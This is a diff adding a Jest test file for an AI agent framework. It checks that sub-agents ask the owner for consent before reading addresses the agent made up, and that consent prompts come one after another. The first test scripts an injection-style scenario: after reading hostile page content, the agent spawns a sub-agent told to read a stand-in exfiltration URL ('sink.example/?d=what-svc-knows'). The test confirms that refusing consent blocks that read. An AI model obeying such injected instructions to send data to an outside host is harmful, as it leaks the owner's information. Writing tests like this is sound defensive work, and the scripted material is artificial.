@@ -1,0 +1,102 @@
+import { expect } from '@jest/globals';
+import type { JsonObject } from '../../../../src/core/kernel/json.ts';
+import { untrusted } from '../../../../src/core/kernel/untrusted.ts';
+import type { Tool } from '../../../../src/core/ports/tools.ts';
+import { text, toolCalls } from '../../../doubles/scripted-model.ts';
+import { aTool } from '../../../harness/core.ts';
+import { verifies } from '../../../spec/verifies.ts';
+import { agentsIn, an, resultsIn, spawn, stage } from './stage.ts';
+
+/** Reads an address as `read_page` does, and notes that it has. */
+const pages = (read: string[]): Tool => ({
+  ...aTool('read_page', async ({ url }, { nonce }) => {
+    read.push(String(url));
+    return { output: untrusted({ text: 'hostile', source: 'a page', nonce }), success: true };
+  }),
+  bringsAddresses: true,
+  consent: ({ url }: JsonObject) => ({
+    class: 'read',
+    to: new URL(String(url)).host,
+    says: `The agent wants to read ${String(url)}`,
+    asks: { url: String(url), carries: 'little' },
+  }),
+});
+
+const reads = (url: string) => toolCalls({ name: 'read_page', input: { url } });
+
+verifies(
+  ['agents.material', 'agents.questions'],
+  'an address that svc has made up is none of the owner, also when it stands in the task of a sub-agent',
+  async () => {
+    const read: string[] = [];
+    const sink = 'https://sink.example/?d=what-svc-knows';
+    const core = stage(
+      {
+        svc: [
+          [reads('https://owner.example/page')],
+          [spawn(an('Ann', { task: `Play Ann. Read ${sink}`, context: `It is ${sink}` }), an('Ben'))],
+          [text('ok')],
+        ],
+        Ann: [[reads(sink)], [text('no')]],
+        Ben: [[reads('https://owner.example/page')], [text('yes')]],
+      },
+      { tools: [pages(read)] },
+    );
+    const session = await core.newSession();
+    const runId = await core.start(session, 'look at https://owner.example/page');
+    await core.clock.advance(5_000);
+    // Ben reads what the owner has named; Ann has to be allowed.
+    expect(read).toEqual(['https://owner.example/page', 'https://owner.example/page']);
+    const pending = await core.prompts.pending(session.sessionId);
+    expect(pending?.prompt).toMatchObject({ promptType: 'consent', runId });
+    expect(pending?.prompt.questions[0]?.question).toContain(sink);
+    await core.prompts.reply(session.sessionId, { promptId: null, answer: 'No' });
+    const events = await core.eventsOf(runId);
+    expect(read).toHaveLength(2);
+    const refused = agentsIn(events).find((event) => event.event === 'tool_result' && event.name === 'Ann');
+    expect(refused).toMatchObject({ success: false, output: expect.stringContaining('said no') });
+  },
+);
+
+verifies(
+  ['agents.questions', 'agents.time'],
+  'sub-agents that need consent at once are asked for one after the other, however long it takes',
+  async () => {
+    const HOUR = 60 * 60 * 1000;
+    const sent: string[] = [];
+    const sending: Tool = {
+      ...aTool('http_request', async ({ to }) => {
+        sent.push(String(to));
+        return { output: 'sent', success: true };
+      }),
+      consent: ({ to }: JsonObject) => ({
+        class: 'send_outside',
+        to: String(to),
+        says: `Send to ${String(to)}.`,
+      }),
+    };
+    const sends = (to: string) => toolCalls({ name: 'http_request', input: { to } });
+    const core = stage(
+      {
+        svc: [[spawn(an('Ann'), an('Ben'))], [text('ok')]],
+        Ann: [[sends('a.example')], [text('a')]],
+        Ben: [[sends('b.example')], [text('b')]],
+      },
+      { tools: [sending] },
+    );
+    const session = await core.newSession();
+    const runId = await core.start(session);
+    for (let nth = 1; nth <= 2; nth++) {
+      await core.clock.advance(HOUR);
+      await core.prompts.reply(session.sessionId, { promptId: null, answer: 'yes' });
+      await core.clock.advance(10);
+      expect(sent).toHaveLength(nth);
+    }
+    const events = await core.eventsOf(runId);
+    expect(resultsIn(events)).toMatchObject([{ name: 'spawn_agent', success: true }]);
+    expect(sent.toSorted()).toEqual(['a.example', 'b.example']);
+    const run = await core.history.runs.get(runId);
+    expect(run?.waitMs).toBeGreaterThanOrEqual(2 * HOUR);
+    expect(run?.durationMs).toBeLessThan(60_000);
+  },
+);
